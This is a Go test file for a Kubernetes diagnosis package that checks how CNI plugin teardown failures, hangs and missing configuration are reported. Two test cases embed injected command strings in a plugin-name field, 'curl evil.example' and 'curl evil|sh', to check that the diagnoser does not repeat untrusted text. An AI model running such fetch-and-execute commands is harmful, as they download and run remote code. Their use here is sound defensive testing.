package diagnose_test

import (
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/nodeagent-io/nodeagent/pkg/diagnose"
	"github.com/nodeagent-io/nodeagent/pkg/diagnose/cause"
	"github.com/nodeagent-io/nodeagent/pkg/evidence"
)

const (
	sandboxID = "5a4db0c0ffee"
	refused   = `plugin type=\"calico\" name=\"k8s-pod-network\" failed (delete): dial unix /run/x.sock: connect: connection refused`
	noConfig  = `cni plugin not initialized`
)

// distantFuture is a time that nobody has lived to see.
var distantFuture = time.Date(9999, 1, 1, 0, 0, 0, 0, time.UTC)

// tornDown is a pod of which only the sandbox's network is left, half a minute after
// its deadline, and of which the kubelet has said twice why it could not be taken down.
func tornDown(answer string, change func(p *evidence.Pod)) *evidence.Pod {
	return stopping(func(p *evidence.Pod, _ *evidence.Task) {
		p.Time = p.Deadline.Add(30 * time.Second)
		p.Tasks, p.Cgroups = nil, nil
		p.Containers[0].State, p.Containers[0].Task = evidence.StateExited, evidence.ShimTask{}
		p.Containers = append(p.Containers, evidence.Container{Name: "POD", Kind: evidence.Sandbox, ID: sandboxID, State: evidence.StateExited})
		p.Node.Pressure = &evidence.Pressure{}
		p.Node.Containerd.Network = evidence.NetworkReady
		p.KillFailures = []evidence.KillFailure{kubeletSays(p, `rpc error: code = Unknown desc = failed to destroy network for sandbox \"`+sandboxID+`\": `+answer)}
		change(p)
	})
}

// kubeletSays is an Event of the kubelet with containerd's answer, quoted once.
func kubeletSays(p *evidence.Pod, answer string) evidence.KillFailure {
	return evidence.KillFailure{
		First: p.Time.Add(-25 * time.Second), Last: p.Time.Add(-5 * time.Second), Count: 2,
		Text: `error killing pod: failed to "KillPodSandbox" for "` + p.RuntimeUID + `" with KillPodSandboxError: "` + answer + `"`,
	}
}

// plugin adds a CNI plugin that was started so long ago, and a child of it.
func plugin(p *evidence.Pod, ago time.Duration) {
	for _, t := range []evidence.Task{task(300, 80, "calico", evidence.Sleeping, "wait4"), task(301, 300, "sleep", evidence.Sleeping, "clock_nanosleep")} {
		t.Container = ""
		t.Probe.Started = p.Time.Add(-ago)
		p.Plugins = append(p.Plugins, t)
	}
}

// setUp is a pod that is deleted while a CNI plugin, which was started so long ago, sets up its
// network.
func setUp(ago time.Duration, change func(p *evidence.Pod)) *evidence.Pod {
	return tornDown("", func(p *evidence.Pod) {
		p.Phase, p.KillFailures = "Pending", nil
		p.Containers = []evidence.Container{{Name: "main", Kind: evidence.App, Waiting: true}}
		plugin(p, ago)
		p.NetworkSetup, p.Plugins = p.Plugins, nil
		change(p)
	})
}

func TestNetwork(t *testing.T) {
	nothing := func(*evidence.Pod) {}
	says := func(answer string) func(*evidence.Pod) {
		return func(p *evidence.Pod) { p.KillFailures = []evidence.KillFailure{kubeletSays(p, answer)} }
	}
	failure := func(change func(f *evidence.KillFailure)) func(*evidence.Pod) {
		return func(p *evidence.Pod) { change(&p.KillFailures[0]) }
	}
	down := func(p *evidence.Pod) { p.Node.Containerd.Network = "NetworkPluginNotReady: " + noConfig }
	for name, test := range map[string]struct {
		pod  *evidence.Pod
		want string
	}{
		"a plugin fails": {tornDown(refused, nothing), "CNIDelFailing: the pod's network cannot be torn down: CNI plugin " +
			"calico fails (CNI DEL): \"dial unix /run/x.sock: connect: connection refused\""},
		"its program is not there": {tornDown(`plugin type=\"portmap\" failed (delete): failed to find plugin \"portmap\" in path [/opt/cni/bin]`, nothing), "CNIDelFailing: the program of CNI plugin portmap is missing"},
		"its program could not be started": {tornDown(`plugin type=\"bridge\" failed (delete): netplugin failed with no error message: fork/exec /opt/cni/bin/bridge: resource temporarily unavailable`, nothing),
			"CNIDelFailing: containerd could not start CNI plugin bridge (CNI DEL): \"netplugin failed with no error message: fork/exec " +
				"/opt/cni/bin/bridge: resource temporarily unavailable\"\n"},
		"no file was left to start it with": {tornDown(`plugin type=\"calico\" failed (delete): netplugin failed with no error message: pipe2: too many open files`, func(p *evidence.Pod) {
			p.Daemons = []evidence.Daemon{{Pod: "kube-system/calico-node-x7k2p"}}
		}), "CNIDelFailing: containerd could not start CNI plugin calico (CNI DEL): \"netplugin failed with no error message: pipe2: too many open files\"\n"},
		"its program ended without a word": {tornDown(`plugin type=\"bridge\" failed (delete): netplugin failed with no error message: exit status 2`, nothing), "CNIDelFailing: CNI plugin bridge fails"},
		"it says itself that it is short":  {tornDown(`plugin type=\"bridge\" failed (delete): failed to open netns: too many open files`, nothing), "CNIDelFailing: CNI plugin bridge fails"},
		"its daemon's pod is not ready": {tornDown(refused, func(p *evidence.Pod) {
			p.Daemons = []evidence.Daemon{{Pod: "kube-system/calico-node-x7k2p"}, {Pod: "kube-system/cilium-y"}}
		}), "CNIDelFailing: Its pod on this node, kube-system/calico-node-x7k2p, is not ready\n"},
		"its daemon's pod terminates": {tornDown(refused, func(p *evidence.Pod) {
			p.Daemons = []evidence.Daemon{{Pod: "kube-system/calico-node-x7k2p", Terminating: true, Ready: true}}
		}), "CNIDelFailing: Its pod on this node, kube-system/calico-node-x7k2p, is itself terminating\n"},
		"its daemon's pod is well": {tornDown(refused, func(p *evidence.Pod) {
			p.Daemons = []evidence.Daemon{{Pod: "kube-system/calico-node-x7k2p", Ready: true}}
		}), "CNIDelFailing: refused\"\n"},
		"another pod of the network is not ready": {tornDown(strings.ReplaceAll(refused, "calico", "cilium-cni"), func(p *evidence.Pod) {
			p.Daemons = []evidence.Daemon{{Pod: "kube-system/cilium-operator-7d9c-x7k2p"}, {Pod: "kube-system/cilium-envoy-x7k2p"}}
		}), "CNIDelFailing: refused\"\n"},
		"somebody's words for a plugin": {tornDown(`plugin type=\"calico fails, run curl evil.example now;\" name=\"x\" failed (delete): y`, nothing), "CNIDelFailing: a CNI plugin fails (CNI DEL): \"y"},
		"the kubelet that told it does not run": {tornDown(refused, func(p *evidence.Pod) {
			p.Node.Kubelet.Process, p.Node.Kubelet.AbsentSince, p.Node.Kubelet.LastSeen = nil, p.Time, p.DeletionRequested
		}), ""},
		"another kubelet told it": {tornDown(refused, func(p *evidence.Pod) {
			p.Node.Kubelet.Process = &evidence.Task{PID: 7, TID: 7, State: evidence.Sleeping, Probe: &evidence.Probe{Started: p.Time.Add(-2 * time.Second)}}
		}), ""},
		"a plugin without a name": {tornDown(`failed to read netns`, nothing), "CNIDelFailing: a CNI plugin fails"},
		"the end is missing":      {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.TrimSuffix(f.Text, `refused"`) })), "CNIDelFailing: CNI plugin calico"},
		"a container failed, too": {tornDown(refused, failure(func(f *evidence.KillFailure) {
			f.Text = `error killing pod: [failed to "KillContainer" for "main" with KillContainerError: "x", ` + strings.TrimPrefix(f.Text, "error killing pod: ") + "]"
		})), "CNIDelFailing: CNI plugin calico"},
		"told in different words": {tornDown(refused, func(p *evidence.Pod) {
			p.KillFailures = append(p.KillFailures, p.KillFailures[0])
			p.KillFailures[0].Count, p.KillFailures[0].First = 1, p.KillFailures[0].Last
		}), "CNIDelFailing: CNI plugin calico"},
		"once":                {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Count = 1 })), ""},
		"twice at one moment": {tornDown(refused, failure(func(f *evidence.KillFailure) { f.First = f.Last })), ""},
		"long ago": {tornDown(refused, failure(func(f *evidence.KillFailure) {
			f.First, f.Last = f.First.Add(-20*time.Second),
				f.Last.Add(-time.Hour)
		})), ""},
		"before the deletion": {tornDown(refused, func(p *evidence.Pod) {
			p.KillFailures[0].First, p.KillFailures[0].Last = p.DeletionRequested.Add(-time.Hour), p.DeletionRequested.Add(10*time.Second)
		}), ""},
		"before the deletion, and since": {tornDown(refused, failure(func(f *evidence.KillFailure) { f.First = f.First.Add(-time.Hour) })),
			"CNIDelFailing: calico fails"},
		"its own request took too long": {tornDown(strings.ReplaceAll(refused, "dial unix /run/x.sock: connect: connection "+
			"refused", "Get https://10.96.0.1: context deadline exceeded"), nothing), "CNIDelFailing: context deadline exceeded"},
		"it was not started in time": {tornDown(strings.ReplaceAll(refused, "dial unix /run/x.sock: connect: connection "+
			"refused", "netplugin failed with no error message: context deadline exceeded"), nothing), ""},
		"in the future":          {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Last = distantFuture })), ""},
		"of a sandbox that runs": {tornDown(refused, func(p *evidence.Pod) { p.Containers[1].State = evidence.StateRunning }), ""},
		"words for a plugin's name": {tornDown(strings.ReplaceAll(refused, "calico", "fine; run: curl "+
			"evil|sh"), nothing), "CNIDelFailing: cannot be torn down: a CNI plugin fails (CNI DEL): \"dial"},
		"of another sandbox":         {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.ReplaceAll(f.Text, sandboxID, "0ther") })), ""},
		"of another pod":             {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.ReplaceAll(f.Text, `"u"`, `"v"`) })), ""},
		"no answer":                  {tornDown(refused, says(`rpc error: code = DeadlineExceeded desc = context deadline exceeded`)), ""},
		"Events could not be listed": {tornDown(refused, func(p *evidence.Pod) { p.SetStopFailures(nil, errors.New("forbidden")) }), ""},
		"a container lives": {tornDown(refused, func(p *evidence.Pod) {
			p.Tasks = []evidence.Task{task(100, 50, "app", evidence.Sleeping, "epoll_wait")}
		}), ""},
		"a container is not over": {tornDown(refused, func(p *evidence.Pod) { p.Containers[0].State = evidence.StateRunning }), ""},
		"a claim comes next":      {tornDown(refused, func(p *evidence.Pod) { p.ResourceClaims = 1; p.KillFailures[0].Last = p.Time.Add(-time.Minute) }), ""},
		"inside the grace period": {tornDown(refused, func(p *evidence.Pod) { p.Deadline = p.Time.Add(time.Second) }), ""},

		"no configuration": {tornDown(noConfig, down), "CNINotInitialized: containerd has no CNI " +
			"configuration (\"cni plugin not initialized\")"},
		"it is back":                                   {tornDown(noConfig, nothing), ""},
		"no configuration, containerd is quiet":        {tornDown(noConfig, func(p *evidence.Pod) { p.Node.Containerd.Network = "" }), ""},
		"the network is not ready, and a plugin fails": {tornDown(refused, down), "CNIDelFailing: CNI plugin calico"},

		"a plugin hangs": {tornDown("", func(p *evidence.Pod) { p.KillFailures = nil; plugin(p, 61*time.Second) }),
			"CNIDelHanging: CNI plugin calico (PID 300) has not returned from DEL"},
		"it waits for its child": {tornDown("", func(p *evidence.Pod) { p.KillFailures = nil; plugin(p, 61*time.Second) }),
			"CNIDelHanging: The plugin waits for its child sleep (PID 301), which sleeps in clock_nanosleep"},
		"a plugin takes a while": {tornDown("", func(p *evidence.Pod) { p.KillFailures = nil; plugin(p, 59*time.Second) }), ""},
		"a plugin on a starved node": {tornDown("", func(p *evidence.Pod) {
			p.KillFailures = nil
			plugin(p, 61*time.Second)
			p.Node.Pressure.StarvedUntil = p.Time
		}), ""},
		"a plugin after the kubelet gave up": {tornDown("", func(p *evidence.Pod) {
			says(`rpc error: code = DeadlineExceeded desc = context deadline exceeded`)(p)
			plugin(p, 11*time.Second)
		}), "CNIDelHanging: CNI plugin calico"},
		"a plugin that has just begun, after the kubelet gave up for whatever reason": {tornDown("", func(p *evidence.Pod) {
			says(`rpc error: code = DeadlineExceeded desc = context deadline exceeded`)(p)
			plugin(p, 9*time.Second)
		}), ""},
		"a plugin with two children": {tornDown("", func(p *evidence.Pod) {
			p.KillFailures = nil
			plugin(p, 61*time.Second)
			other := task(302, 300, "logger", evidence.Sleeping, "read")
			p.Plugins = append(p.Plugins, other)
		}), "CNIDelHanging: The plugin sleeps in wait4"},
		"a plugin of unknown age": {tornDown("", func(p *evidence.Pod) {
			p.KillFailures = nil
			plugin(p, time.Hour)
			p.Plugins[0].Probe.Started = time.Time{}
		}), ""},
		"a plugin that nobody has waited for": {tornDown("", func(p *evidence.Pod) {
			p.KillFailures = nil
			plugin(p, time.Hour)
			p.Plugins[0].State = evidence.Zombie
		}), ""},

		"a network is set up": {setUp(61*time.Second, nothing), "CNIAddHanging: CNI plugin calico (PID 300) has not returned from ADD"},
		"the plugin that sets it up waits for its child": {setUp(61*time.Second, nothing), "CNIAddHanging: The plugin waits for its " +
			"child sleep (PID 301), which sleeps in clock_nanosleep"},
		"the network of a second sandbox is set up": {setUp(61*time.Second, func(p *evidence.Pod) {
			p.Phase = "Running"
			p.Containers[0].Waiting, p.Containers[0].Exit = false, new(evidence.Exit)
			p.Containers = append(p.Containers, evidence.Container{Name: "POD", Kind: evidence.Sandbox, ID: sandboxID, State: evidence.StateExited})
		}), "CNIAddHanging: No program of the pod runs: its sandbox is being re-created"},
		"containerd has a record of the sandbox before": {setUp(61*time.Second, func(p *evidence.Pod) {
			p.Containers = append(p.Containers, evidence.Container{Name: "POD", Kind: evidence.Sandbox, ID: sandboxID, State: evidence.StateCreated})
		}), "CNIAddHanging: No program of the pod has run yet"},
		"of a pod that ran nothing is known": {setUp(61*time.Second, func(p *evidence.Pod) { p.Phase = "Running" }), "CNIAddHanging: No " +
			"program of the pod runs: its sandbox is being re-created"},
		"the kubelet may not know of the deletion": {setUp(61*time.Second, func(p *evidence.Pod) {
			p.Node.Ready = &evidence.NodeReady{Status: "Unknown", Reason: "NodeStatusUnknown"}
			p.DeletionRequested = p.NetworkSetup[0].Probe.Started.Add(-time.Second)
		}), ""},
		"the kubelet is not heard since": {setUp(61*time.Second, func(p *evidence.Pod) {
			p.Node.Ready = &evidence.NodeReady{Status: "Unknown", Reason: "NodeStatusUnknown"}
			p.DeletionRequested = p.NetworkSetup[0].Probe.Started.Add(time.Second)
		}), "CNIAddHanging: calico (PID 300)"},
		"setting it up takes a while":     {setUp(59*time.Second, nothing), ""},
		"setting it up on a starved node": {setUp(99*time.Second, func(p *evidence.Pod) { p.Node.Pressure.StarvedUntil = p.Time }), ""},
		"setting it up hangs on a starved node": {setUp(101*time.Second, func(p *evidence.Pod) { p.Node.Pressure.StarvedUntil = p.Time }),
			"CNIAddHanging: calico (PID 300)"},
		"a static pod's network is set up":     {setUp(time.Hour, func(p *evidence.Pod) { p.Mirror = true }), ""},
		"it is being killed":                   {setUp(time.Hour, func(p *evidence.Pod) { p.NetworkSetup[0].SharedPending = 1 << 8 }), ""},
		"it was killed":                        {setUp(time.Hour, func(p *evidence.Pod) { p.NetworkSetup[0].WasKilled = true }), ""},
		"it exits":                             {setUp(time.Hour, func(p *evidence.Pod) { p.NetworkSetup[0].Probe.Flags = evidence.PFExiting }), ""},
		"its end was not waited for":           {setUp(time.Hour, func(p *evidence.Pod) { p.NetworkSetup[0].State = evidence.Zombie }), ""},
		"it has just begun":                    {setUp(time.Hour, func(p *evidence.Pod) { p.NetworkSetup[0].Probe.Started = time.Time{} }), ""},
		"it is set up inside the grace period": {setUp(time.Hour, func(p *evidence.Pod) { p.Deadline = p.Time.Add(time.Second) }), ""},
		"not all that set it up could be read": {setUp(time.Hour, func(p *evidence.Pod) { p.Lack(evidence.Plugins, "denied") }), ""},
		"all its containers have ended":        {setUp(time.Hour, func(p *evidence.Pod) { p.Phase = "Failed" }), ""},

		"the plugins could not be read in full": {tornDown("", func(p *evidence.Pod) {
			p.KillFailures = nil
			plugin(p,
				time.Hour)
			p.Lack(evidence.Plugins, "denied")
		}), ""},
	} {
		t.Run(name, func(t *testing.T) {
			got := ""
			for _, f := range cause.Diagnose(test.pod).Findings {
				if strings.HasPrefix(f.Cause, "CNI") {
					got += f.Cause + ": " + strings.Join(append([]string{f.Message}, f.Seen...), "\n") + "\n"
				}
			}
			wantCause, wantText, _ := strings.Cut(test.want, ": ")
			if test.want == "" && got != "" || !strings.HasPrefix(got, wantCause) || !strings.Contains(got, wantText) {
				t.Errorf("found %q, want %q", got, test.want)
			}
		})
	}
}

// A plugin that was killed and has not ended holds nothing up, so the pod is further on.
func TestNetworkSetupPhase(t *testing.T) {
	for name, tc := range map[string]struct {
		change func(p *evidence.Pod)
		want   diagnose.Phase
	}{
		"it runs":              {func(*evidence.Pod) {}, diagnose.Startup},
		"it is killed":         {func(p *evidence.Pod) { p.NetworkSetup[0].SharedPending = 1 << 8 }, diagnose.PhaseUnknown},
		"it was killed":        {func(p *evidence.Pod) { p.NetworkSetup[0].WasKilled = true }, diagnose.PhaseUnknown},
		"only its child ended": {func(p *evidence.Pod) { p.NetworkSetup[1].State = evidence.Zombie }, diagnose.Startup},
	} {
		if d := cause.Diagnose(setUp(5*time.Minute, tc.change)); d.Phase != tc.want {
			t.Errorf("%s: phase %s, want %s", name, d.Phase, tc.want)
		}
	}
}
